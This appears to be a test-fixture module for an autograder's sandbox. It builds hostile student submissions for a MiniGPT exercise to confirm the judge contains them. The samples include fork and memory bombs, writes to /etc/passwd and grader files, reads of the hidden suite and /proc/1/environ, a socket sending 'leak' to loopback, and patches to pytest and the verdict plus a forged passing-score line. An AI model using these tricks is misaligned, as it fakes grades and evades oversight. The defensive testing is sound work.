"""Submissions that misbehave, built from the reference so only the misbehaviour differs.

Each function returns source text. Overrides are appended to the reference,
so the rest of the model stays correct and every other check should keep its
credit.
"""

from __future__ import annotations

from support import REFERENCE


def reference_with(extra: str) -> str:
    """The reference with ``extra`` appended (later definitions win)."""
    return REFERENCE.read_text(encoding="utf-8") + "\n\n" + extra.strip() + "\n"


def hang_at_import() -> str:
    return reference_with("while True:\n    pass")


def hang_in_generate() -> str:
    return reference_with(
        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
        "    while True:\n"
        "        pass"
    )


def exit_in_cross_entropy() -> str:
    """exit() is refused by the policy; raising SystemExit is not, and must be contained."""
    return reference_with("def cross_entropy_loss(logits, targets):\n    raise SystemExit(0)")


def os_exit_in_generate() -> str:
    """Needs --unsafe-skip-policy: ends the process with status 0 mid-call."""
    return reference_with(
        "import os\n"
        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
        "    print('44 passed')\n"
        "    os._exit(0)"
    )


def memory_bomb_in_cross_entropy() -> str:
    return reference_with(
        "def cross_entropy_loss(logits, targets):\n"
        "    hoard = []\n"
        "    while True:\n"
        "        hoard.append([0.0] * 1_000_000)"
    )


def output_flood() -> str:
    return reference_with(
        "_real_forward = MiniGPT.forward\n"
        "def _loud_forward(self, token_ids):\n"
        "    print('PASSED ' * 20000)\n"
        "    return _real_forward(self, token_ids)\n"
        "MiniGPT.forward = _loud_forward\n"
        "print('x' * 5_000_000)"
    )


def fork_bomb() -> str:
    """Needs --unsafe-skip-policy (os is refused): proves the pids limit holds."""
    return reference_with(
        "import os\n"
        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            pass"
    )


def write_outside_scratch(target: str) -> str:
    """Needs --unsafe-skip-policy: tries to write where it must not, then fakes a pass."""
    return reference_with(
        "def _try_writes():\n"
        f"    for path in ({target!r}, '/opt/grader/grader/suite/test_shapes.py',\n"
        "                 __file__, '/submission/minigpt.py', '/usr/x', '/tmp/../etc/passwd'):\n"
        "        try:\n"
        "            with open(path, 'a') as handle:\n"
        "                handle.write('tampered')\n"
        "        except OSError:\n"
        "            pass\n"
        "_try_writes()"
    )


def tamper_with_own_file(padding: int = 0) -> str:
    """Needs --unsafe-skip-policy: tries to change, move or replace its own file and its
    folder; if any of that works, its import fails loudly. ``padding`` bytes of comment
    make the file larger than a pipe's buffer on its way to the judge."""
    return reference_with(
        "def _tamper():\n"
        "    import os\n"
        "    folder = os.path.dirname(os.path.abspath(__file__))\n"
        "    attempts = [\n"
        "        lambda: open(__file__, 'a').close(),\n"
        "        lambda: os.chmod(__file__, 0o666),\n"
        "        lambda: os.unlink(__file__),\n"
        "        lambda: os.rename(folder, folder + '-moved'),\n"
        "        lambda: open(os.path.join(folder, 'planted.py'), 'w').close(),\n"
        "    ]\n"
        "    for attempt in attempts:\n"
        "        try:\n"
        "            attempt()\n"
        "        except OSError:\n"
        "            continue\n"
        "        raise RuntimeError('the submission could change its own file')\n"
        "_tamper()\n" + "# padding\n" * (padding // 10)
    )


def reach_the_judges_stdin() -> str:
    """Needs --unsafe-skip-policy: looks for the stream the judge received the file on
    (any process's fd 0 other than its own pipes) to read or write it; if it can, its
    import fails loudly."""
    return reference_with(
        "def _reach():\n"
        "    import os\n"
        "    for pid in os.listdir('/proc'):\n"
        "        if not pid.isdigit() or int(pid) == os.getpid():\n"
        "            continue\n"
        "        for mode in ('rb', 'wb'):\n"
        "            try:\n"
        "                stream = open(f'/proc/{pid}/fd/0', mode, buffering=0)\n"
        "            except OSError:\n"
        "                continue\n"
        "            with stream:\n"
        "                target = os.readlink(f'/proc/{pid}/fd/0')\n"
        "                if target != '/dev/null' and 'pipe' not in target:\n"
        "                    raise RuntimeError(f'reached {target} of process {pid}')\n"
        "_reach()"
    )


def connect_to(port: int) -> str:
    """Needs --unsafe-skip-policy: tries to reach a listener on the host's loopback."""
    return reference_with(
        "import socket\n"
        "def _phone_home():\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
        "    except OSError:\n"
        "        pass\n"
        "_phone_home()"
    )


def read_hidden_suite() -> str:
    """Needs --unsafe-skip-policy: tries to read the judge's files and raise the grade."""
    return reference_with(
        "import os, signal\n"
        "def _snoop():\n"
        "    found = []\n"
        "    for path in ('/opt/grader/grader/suite/test_shapes.py',\n"
        "                 '/opt/grader/reference/minigpt.py', '/proc/1/environ'):\n"
        "        try:\n"
        "            found.append(open(path).read(10))\n"
        "        except OSError:\n"
        "            pass\n"
        "    try:\n"
        "        os.kill(1, signal.SIGTERM)\n"
        "    except OSError:\n"
        "        pass\n"
        "    return found\n"
        "STOLEN = _snoop()\n"
        "if STOLEN:\n"
        "    raise RuntimeError('read the hidden suite')"
    )


def patch_the_framework() -> str:
    """Needs --unsafe-skip-policy: tries to fake a pass the ways students have.

    It patches the grader's verdict and pytest if it can import them (only
    possible if the judge imported the submission), prints a forged result
    line, and ships a broken generate that must still be caught.
    """
    return reference_with(
        "import json\n"
        "try:\n"
        "    import pytest\n"
        "    pytest.main = lambda *a, **k: 0\n"
        "    import grader.judge.verdict as _verdict\n"
        "    _verdict.feedback_from_outcomes = lambda outcomes: None\n"
        "except ImportError:\n"
        "    pass\n"
        "print(json.dumps({'schema_version': '1.0', 'status': 'passed', 'summary': 'No issues "
        "detected', 'score': 100, 'max_score': 100}))\n"
        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
        "    return list(start_ids)"
    )


def report_identity() -> str:
    """Needs --unsafe-skip-policy: fails its import unless it runs unprivileged as uid 10002."""
    return reference_with(
        "def _identity():\n"
        "    lines = open('/proc/self/status').read().splitlines()\n"
        "    status = dict(line.split(':', 1) for line in lines if ':' in line)\n"
        "    uids = status['Uid'].split()\n"
        "    caps = [status[k].strip() for k in ('CapInh', 'CapPrm', 'CapEff', 'CapAmb')]\n"
        "    if set(uids) != {'10002'} or any(int(c, 16) for c in caps):\n"
        "        raise RuntimeError(f'uids {uids} caps {caps}')\n"
        "_identity()"
    )


def garble_the_protocol() -> str:
    """Needs --unsafe-skip-policy: writes junk on the worker's answer pipe during generate."""
    return reference_with(
        "import os, sys\n"
        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
        "    fd = int(sys.argv[sys.argv.index('--responses') + 1])\n"
        "    os.write(fd, b'{not json\\n')\n"
        "    return list(start_ids)"
    )
